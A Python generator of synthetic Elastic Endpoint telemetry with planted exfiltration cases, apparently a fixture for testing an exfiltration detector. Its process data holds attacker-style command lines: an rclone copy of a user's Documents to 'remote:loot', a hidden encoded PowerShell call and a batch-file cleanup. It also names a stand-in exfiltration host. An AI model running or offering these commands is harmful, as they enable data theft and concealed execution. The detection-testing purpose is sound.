"""Seeded generator of a small, realistic Elastic Endpoint network export with planted
exfiltration, in the shape of ``logs-endpoint.events.network-*`` documents (see the
Elastic sample event this project's tests are built around).

    python sample_data/generate.py            # rewrites the files beside this script

It writes three layouts of one network export (the same events split across them):

* ``endpoint-network.ndjson.gz``  nested ``_source`` documents, one per line, gzipped
* ``elasticdump-hits.ndjson``     elasticdump hits (``_index``/``_id``/``_source``), CRLF
* ``flattened.parquet``           dotted column names, as a pandas/Spark pipeline writes

and ``endpoint-process.ndjson.gz``: process events (``logs-endpoint.events.process-*``)
for the planted processes, their parents and children, and some others, for ``pivot``.

and ``PLANTED.md``-style expectations live in :data:`PLANTED` for the tests.
Deterministic: the same seed gives byte-identical files.
"""

from __future__ import annotations

import base64
import gzip
import json
import random
import zlib
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

GiB = 1024**3
SEED = 20261127
EXPORT_TIME = datetime(2026, 11, 20, 16, 0, 0, tzinfo=UTC)
HERE = Path(__file__).resolve().parent

WINDOWS_HOSTS = [f"WIN-WKS-{i:02d}" for i in range(1, 7)]
LINUX_HOSTS = ["lnx-build-01", "lnx-web-02"]
MAC_HOSTS = ["mac-design-01", "mac-exec-02"]
PUBLIC = [
    ("142.250.185.78", "GOOGLE", 15169),
    ("13.107.42.14", "MICROSOFT-CORP-MSN-AS-BLOCK", 8068),
    ("151.101.1.140", "FASTLY", 54113),
    ("104.16.132.229", "CLOUDFLARENET", 13335),
    ("52.96.165.18", "MICROSOFT-CORP-MSN-AS-BLOCK", 8075),
    ("2606:4700::6810:84e5", "CLOUDFLARENET", 13335),
]
PRIVATE = ["10.20.0.5", "192.168.1.20", "172.16.4.10", "fe80::1c2b:3aff:fe4d:5e6f"]


def entity_id(agent: str, pid: int, start: float) -> str:
    return base64.b64encode(f"{agent}-{pid}-{start:.7f}".encode()).decode()


def event(
    *,
    ts: datetime,
    host: str,
    family: str,
    pid: int,
    executable: str,
    dest_ip: str,
    dest_address: str | None = None,
    sent: int,
    action: str = "disconnect_received",
    org: str | None = None,
    asn: int | None = None,
    port: int = 443,
    user: str = "SYSTEM",
    rng: random.Random,
) -> dict[str, Any]:
    """One Endpoint network event, nested as Elasticsearch stores ``_source``."""
    agent = f"{zlib.crc32(host.encode()) % 10**8:08d}-0ec9-4961-805e-8ed2fc4c043b"
    name = executable.replace("\\", "/").rsplit("/", 1)[-1]
    os_block = {
        "windows": {
            "name": "Windows",
            "family": "windows",
            "type": "windows",
            "platform": "windows",
            "version": "1809 (10.0.17763.2686)",
            "kernel": "1809 (10.0.17763.2686)",
            "full": "Windows Server 2019 Datacenter 1809 (10.0.17763.2686)",
            "Ext": {"variant": "Windows Server 2019 Datacenter"},
        },
        "linux": {
            "name": "Ubuntu",
            "family": "ubuntu",
            "type": "linux",
            "platform": "ubuntu",
            "version": "22.04.3",
            "kernel": "6.5.0-1016-gcp",
            "full": "Ubuntu 22.04.3",
        },
        "macos": {
            "name": "macOS",
            "family": "macos",
            "type": "macos",
            "platform": "macos",
            "version": "14.1",
            "kernel": "23.1.0",
            "full": "macOS 14.1",
        },
    }[family]
    if family == "linux":
        os_block["family"] = "debian"
    destination: dict[str, Any] = {
        "address": dest_address or dest_ip,
        "port": port,
        "bytes": rng.randint(200, 90_000),
        "ip": dest_ip,
    }
    if org:
        destination["as"] = {"number": asn, "organization": {"name": org}}
        destination["geo"] = {
            "continent_name": "North America",
            "country_iso_code": "US",
            "country_name": "United States",
            "location": {"lon": -97.822, "lat": 37.751},
        }
    frac = f"{ts.microsecond:06d}{rng.randint(0, 9)}"
    stamp = ts.strftime("%Y-%m-%dT%H:%M:%S.") + frac + "Z"
    return {
        "agent": {"id": agent, "type": "endpoint", "version": "8.15.3"},
        "process": {
            "Ext": {
                "ancestry": [entity_id(agent, pid - 1, 1.5)],
                "code_signature": [
                    {
                        "trusted": family == "windows",
                        "exists": True,
                        "subject_name": "Microsoft Windows",
                        "status": "trusted",
                    }
                ],
            },
            "parent": {"entity_id": entity_id(agent, pid - 1, 1.5)},
            "name": name,
            "pid": pid,
            "entity_id": entity_id(agent, pid, 13293549109.7359497),
            "executable": executable,
        },
        "destination": destination,
        "source": {
            "address": "10.201.0.32",
            "port": rng.randint(49152, 65535),
            "bytes": sent,
            "ip": "10.201.0.32",
        },
        "message": "Endpoint network event",
        "network": {
            "transport": "tcp",
            "type": "ipv6" if ":" in dest_ip else "ipv4",
            "direction": "egress",
        },
        "@timestamp": stamp,
        "ecs": {"version": "8.10.0"},
        "data_stream": {
            "namespace": "default",
            "type": "logs",
            "dataset": "endpoint.events.network",
        },
        "host": {
            "hostname": host,
            "os": os_block,
            "ip": ["10.201.0.32", "fe80::f8e6:a511:69ea:27c4", "127.0.0.1", "::1"],
            "name": host,
            "id": f"{zlib.crc32(host.encode()) * 7919 % 10**12:012d}",
            "mac": ["00-00-5E-00-53-23"],
            "architecture": "x86_64",
        },
        "event": {
            "agent_id_status": "verified",
            "sequence": rng.randint(1, 10**6),
            "ingested": stamp[:19] + "Z",
            "created": stamp,
            "kind": "event",
            "module": "endpoint",
            "action": action,
            "id": f"MYfZG5h8j1qej16H+{pid}",
            "category": ["network"],
            "type": ["end" if "disconnect" in action else "start"],
            "dataset": "endpoint.events.network",
        },
        "user": {"domain": "NT AUTHORITY", "name": user, "id": "S-1-5-18"},
    }


def _spread(total: int, parts: int, rng: random.Random) -> list[int]:
    cuts = sorted(rng.sample(range(1, total), parts - 1))
    return [b - a for a, b in zip([0, *cuts], [*cuts, total], strict=True)]


#: The planted groups: (label, host, family, pid, executable, dest ip, dest address, total,
#: hours before export of the first and last connection, connections, expected flagged).
PLANTED = [
    (
        "rclone to a public host",
        "WIN-WKS-03",
        "windows",
        7312,
        r"C:\Users\jdoe\AppData\Local\Temp\rclone.exe",
        "185.220.101.7",
        "185.220.101.7",
        3 * GiB + 123_456_789,
        (6.5, 0.5),
        40,
        True,
    ),
    (
        "exactly 1 GiB, ipv6",
        "WIN-WKS-05",
        "windows",
        4420,
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "2a05:d014:e00::17",
        "sync.exfil-cdn.example",
        GiB,
        (7.5, 1.0),
        12,
        True,
    ),
    (
        "ipv4-mapped public destination",
        "WIN-WKS-01",
        "windows",
        9001,
        r"C:\ProgramData\svc\svhost.exe",
        "::ffff:45.77.12.9",
        "45.77.12.9",
        GiB + 4096,
        (3.0, 0.2),
        25,
        True,
    ),
    (
        "just under the threshold",
        "WIN-WKS-02",
        "windows",
        5120,
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        "142.250.185.78",
        "142.250.185.78",
        GiB - 1,
        (5.0, 0.1),
        30,
        False,
    ),
    (
        "private destination",
        "WIN-WKS-04",
        "windows",
        2288,
        r"C:\Program Files\Veeam\Backup\VeeamAgent.exe",
        "10.20.0.5",
        "backup.corp.local",
        5 * GiB,
        (6.0, 0.3),
        20,
        False,
    ),
    (
        "ipv4-mapped private destination",
        "WIN-WKS-06",
        "windows",
        3300,
        r"C:\Tools\sync.exe",
        "::ffff:192.168.1.20",
        "nas.corp.local",
        2 * GiB,
        (4.0, 0.4),
        10,
        False,
    ),
    (
        "outside the 8h window",
        "WIN-WKS-03",
        "windows",
        6600,
        r"C:\Users\jdoe\AppData\Local\Microsoft\OneDrive\OneDrive.exe",
        "13.107.42.14",
        "13.107.42.14",
        4 * GiB,
        (20.0, 9.0),
        16,
        False,
    ),
    (
        "another OS (linux)",
        "lnx-build-01",
        "linux",
        1777,
        "/usr/bin/curl",
        "151.101.1.140",
        "151.101.1.140",
        3 * GiB,
        (5.0, 0.5),
        15,
        False,
    ),
]


def build(rng: random.Random) -> list[dict[str, Any]]:
    events: list[dict[str, Any]] = []
    for label, host, family, pid, exe, ip, address, total, (first_h, last_h), n, _flag in PLANTED:
        org = "CHOOPA" if "45.77" in ip else ("AMAZON-02" if ip.startswith("2a05") else None)
        for i, sent in enumerate(_spread(total, n, rng)):
            hours = first_h - (first_h - last_h) * i / max(1, n - 1)
            ts = EXPORT_TIME - timedelta(hours=hours, milliseconds=rng.randint(0, 999))
            events.append(
                event(
                    ts=ts,
                    host=host,
                    family=family,
                    pid=pid,
                    executable=exe,
                    dest_ip=ip,
                    dest_address=address,
                    sent=sent,
                    org=org,
                    asn=64500 if org else None,
                    user="jdoe",
                    rng=rng,
                )
            )
        del label
    # Same process, other action: big bytes on connection_accepted never count.
    events.append(
        event(
            ts=EXPORT_TIME - timedelta(hours=1),
            host="WIN-WKS-02",
            family="windows",
            pid=8080,
            executable=r"C:\inetpub\w3wp.exe",
            dest_ip="104.16.132.229",
            sent=9 * GiB,
            action="connection_accepted",
            rng=rng,
        )
    )
    hosts = (
        [(h, "windows") for h in WINDOWS_HOSTS]
        + [(h, "linux") for h in LINUX_HOSTS]
        + [(h, "macos") for h in MAC_HOSTS]
    )
    programs = {
        "windows": [
            r"C:\Program Files\Google\Chrome\Application\chrome.exe",
            r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
            r"C:\Windows\System32\svchost.exe",
            r"C:\Program Files\Slack\slack.exe",
        ],
        "linux": ["/usr/sbin/sshd", "/usr/bin/python3.11", "/usr/lib/apt/methods/https"],
        "macos": [
            "/Applications/Safari.app/Contents/MacOS/Safari",
            "/Applications/Slack.app/Contents/MacOS/Slack",
        ],
    }
    actions = ["disconnect_received"] * 5 + ["connection_attempted"] * 3 + ["connection_accepted"]
    for _ in range(3000):
        host, family = rng.choice(hosts)
        exe = rng.choice(programs[family])
        pid = 1000 + programs[family].index(exe) * 10 + hosts.index((host, family))
        if rng.random() < 0.8:
            ip, org, asn = rng.choice(PUBLIC)
        else:
            ip, org, asn = rng.choice(PRIVATE), None, None
        ts = EXPORT_TIME - timedelta(seconds=rng.uniform(60, 24 * 3600))
        events.append(
            event(
                ts=ts,
                host=host,
                family=family,
                pid=pid,
                executable=exe,
                dest_ip=ip,
                sent=rng.randint(0, 2_000_000),
                org=org,
                asn=asn,
                action=rng.choice(actions),
                user="jdoe",
                rng=rng,
            )
        )
    events.sort(key=lambda e: e["@timestamp"])
    return events


#: Per planted pid: the parent's (executable, command line) and the process's command line.
LAUNCHES = {
    7312: (
        r"C:\Windows\System32\cmd.exe",
        r"cmd.exe /c C:\Users\jdoe\AppData\Local\Temp\run.bat",
        r"rclone.exe copy C:\Users\jdoe\Documents remote:loot --transfers 8 -q",
    ),
    4420: (
        r"C:\Windows\System32\wbem\WmiPrvSE.exe",
        r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
        "powershell.exe -nop -w hidden -enc SQBFAFgA",
    ),
    9001: (
        r"C:\Windows\System32\services.exe",
        r"C:\Windows\system32\services.exe",
        r"C:\ProgramData\svc\svhost.exe -k netsvcs",
    ),
    5120: (
        r"C:\Windows\explorer.exe",
        r"C:\Windows\Explorer.EXE",
        r'"C:\Program Files\Google\Chrome\Application\chrome.exe"',
    ),
}
#: Children of the rclone process: (pid, executable, command line, minutes after its start).
CHILDREN = [
    (
        7400,
        r"C:\Windows\System32\conhost.exe",
        r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
        0.1,
    ),
    (
        7404,
        r"C:\Windows\System32\cmd.exe",
        r"cmd.exe /c del /q C:\Users\jdoe\AppData\Local\Temp\run.bat",
        361.0,
    ),
]


def process_event(*, ts: datetime, host: str, pid: int, executable: str, command_line: str,
                  entity: str, parent: tuple[int, str, str] | None, action: str = "start",
                  user: str = "jdoe", signed: bool = True,
                  rng: random.Random) -> dict[str, Any]:  # fmt: skip
    """One Endpoint process event (``logs-endpoint.events.process-*``), nested."""
    agent = f"{zlib.crc32(host.encode()) % 10**8:08d}-0ec9-4961-805e-8ed2fc4c043b"
    name = executable.rsplit("\\", 1)[-1]
    digest = zlib.crc32(executable.encode())
    frac = f"{ts.microsecond:06d}{rng.randint(0, 9)}"
    stamp = ts.strftime("%Y-%m-%dT%H:%M:%S.") + frac + "Z"
    process: dict[str, Any] = {
        "entity_id": entity,
        "pid": pid,
        "executable": executable,
        "name": name,
        "command_line": command_line,
        "args": command_line.split(" "),
        "args_count": len(command_line.split(" ")),
        "hash": {
            "md5": f"{digest:08x}" * 4,
            "sha1": f"{digest:08x}" * 5,
            "sha256": f"{digest:08x}" * 8,
        },
        "code_signature": (
            {"exists": True, "status": "trusted", "subject_name": "Microsoft Windows",
             "trusted": True}
            if signed
            else {"exists": False}
        ),
        "Ext": {"ancestry": [parent[2]] if parent else []},
    }  # fmt: skip
    if parent:
        process["parent"] = {
            "pid": parent[0],
            "executable": parent[1],
            "name": parent[1].rsplit("\\", 1)[-1],
            "entity_id": parent[2],
        }
    return {
        "@timestamp": stamp,
        "agent": {"id": agent, "type": "endpoint", "version": "8.15.3"},
        "data_stream": {"dataset": "endpoint.events.process", "namespace": "default",
                        "type": "logs"},
        "ecs": {"version": "8.10.0"},
        "event": {
            "action": action,
            "category": ["process"],
            "type": ["start"] if action == "start" else ["end"],
            "kind": "event",
            "module": "endpoint",
            "dataset": "endpoint.events.process",
            "id": f"MYfZG5h8j1qej16H+p{pid}",
            "sequence": rng.randint(1, 10**6),
            "created": stamp,
        },
        "host": {"hostname": host, "name": host, "os": {"family": "windows", "type": "windows",
                                                        "name": "Windows"}},
        "message": "Endpoint process event",
        "process": process,
        "user": {"domain": "CORP" if user == "jdoe" else "NT AUTHORITY", "name": user},
    }  # fmt: skip


def build_processes(rng: random.Random) -> list[dict[str, Any]]:
    """Process events: each launched planted process, its parent and (for rclone) its
    children and its end; a few start events of other processes. Entity ids follow the
    network events' own (see :func:`event`)."""
    events: list[dict[str, Any]] = []
    for _label, host, _family, pid, exe, *_rest in PLANTED:
        if pid not in LAUNCHES:
            continue
        parent_exe, parent_cmd, command_line = LAUNCHES[pid]
        agent = f"{zlib.crc32(host.encode()) % 10**8:08d}-0ec9-4961-805e-8ed2fc4c043b"
        me = entity_id(agent, pid, 13293549109.7359497)
        parent = entity_id(agent, pid - 1, 1.5)
        first_hours = next(p[8][0] for p in PLANTED if p[3] == pid)
        born = EXPORT_TIME - timedelta(hours=first_hours, minutes=5)
        events.append(
            process_event(ts=born - timedelta(minutes=30), host=host, pid=pid - 1,
                          executable=parent_exe, command_line=parent_cmd, entity=parent,
                          parent=None, user="SYSTEM" if pid != 7312 else "jdoe", rng=rng)
        )  # fmt: skip
        events.append(
            process_event(ts=born, host=host, pid=pid, executable=exe, command_line=command_line,
                          entity=me, parent=(pid - 1, parent_exe, parent), signed=pid != 7312,
                          rng=rng)
        )  # fmt: skip
        if pid == 7312:
            for child_pid, child_exe, child_cmd, minutes in CHILDREN:
                events.append(
                    process_event(ts=born + timedelta(minutes=minutes), host=host, pid=child_pid,
                                  executable=child_exe, command_line=child_cmd,
                                  entity=entity_id(agent, child_pid, 13293549200.0 + minutes),
                                  parent=(pid, exe, me), rng=rng)
                )  # fmt: skip
            events.append(
                process_event(ts=EXPORT_TIME - timedelta(minutes=20), host=host, pid=pid,
                              executable=exe, command_line=command_line, entity=me,
                              parent=(pid - 1, parent_exe, parent), action="end",
                              signed=False, rng=rng)
            )  # fmt: skip
    for i in range(6):
        host = WINDOWS_HOSTS[i]
        agent = f"{zlib.crc32(host.encode()) % 10**8:08d}-0ec9-4961-805e-8ed2fc4c043b"
        pid = 2000 + i
        events.append(
            process_event(ts=EXPORT_TIME - timedelta(hours=rng.uniform(1, 20)), host=host,
                          pid=pid, executable=r"C:\Windows\System32\notepad.exe",
                          command_line="notepad.exe", entity=entity_id(agent, pid, 7.0),
                          parent=None, rng=rng)
        )  # fmt: skip
    events.sort(key=lambda e: e["@timestamp"])
    return events


def flatten(doc: dict[str, Any], prefix: str = "") -> dict[str, Any]:
    out: dict[str, Any] = {}
    for key, value in doc.items():
        name = f"{prefix}{key}"
        if isinstance(value, dict):
            out.update(flatten(value, name + "."))
        else:
            out[name] = value
    return out


def write(directory: Path = HERE, seed: int = SEED) -> list[Path]:
    import pyarrow as pa  # noqa: PLC0415
    import pyarrow.parquet as pq  # noqa: PLC0415

    rng = random.Random(seed)
    events = build(rng)
    thirds = [events[0::3], events[1::3], events[2::3]]
    nested = directory / "endpoint-network.ndjson.gz"
    with nested.open("wb") as raw, gzip.GzipFile(fileobj=raw, mode="wb", mtime=0) as out:
        for doc in thirds[0]:
            out.write(json.dumps(doc, separators=(",", ":")).encode() + b"\n")
    dump = directory / "elasticdump-hits.ndjson"
    with dump.open("wb") as out:
        for i, doc in enumerate(thirds[1]):
            hit = {
                "_index": ".ds-logs-endpoint.events.network-default-2026.11.20-000001",
                "_id": f"doc{i:06d}",
                "_score": 1,
                "_source": doc,
            }
            out.write(json.dumps(hit, separators=(",", ":")).encode() + b"\r\n")
    flat_rows = [flatten(doc) for doc in thirds[2]]
    wanted = [
        "@timestamp",
        "host.os.family",
        "host.name",
        "event.category",
        "event.action",
        "destination.ip",
        "destination.address",
        "destination.port",
        "destination.as.organization.name",
        "process.entity_id",
        "process.executable",
        "process.name",
        "process.pid",
        "source.bytes",
        "source.ip",
        "user.name",
    ]
    table = pa.table({name: [row.get(name) for row in flat_rows] for name in wanted})
    flat = directory / "flattened.parquet"
    pq.write_table(table, flat)
    processes = directory / "endpoint-process.ndjson.gz"
    with processes.open("wb") as raw, gzip.GzipFile(fileobj=raw, mode="wb", mtime=0) as out:
        for doc in build_processes(random.Random(seed + 1)):
            out.write(json.dumps(doc, separators=(",", ":")).encode() + b"\n")
    return [nested, dump, flat, processes]


if __name__ == "__main__":
    for path in write():
        print(f"wrote {path.relative_to(HERE.parent)} ({path.stat().st_size:,} bytes)")
